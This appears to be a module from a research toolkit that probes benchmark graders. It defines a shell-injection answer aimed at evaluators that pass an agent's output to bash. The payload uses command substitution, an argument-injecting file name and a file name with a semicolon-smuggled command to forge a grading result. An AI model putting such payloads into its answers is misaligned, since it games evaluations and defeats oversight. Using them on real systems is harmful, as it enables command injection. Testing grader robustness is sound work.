"""Answers with shell code, for a test that lets bash expand what it reads.

Source: CWE-78 (OS command injection); BenchJack's class of evaluators that run the agent's words.
"""

from attacks.frame import FORGE, Attack

ATTACK = Attack(
    "shell",
    f"""printf '%s' '$({FORGE})' > out.txt
    touch -- '-v r[$({FORGE})]' 'x; {FORGE.replace("/", "#")}'; true""",
)
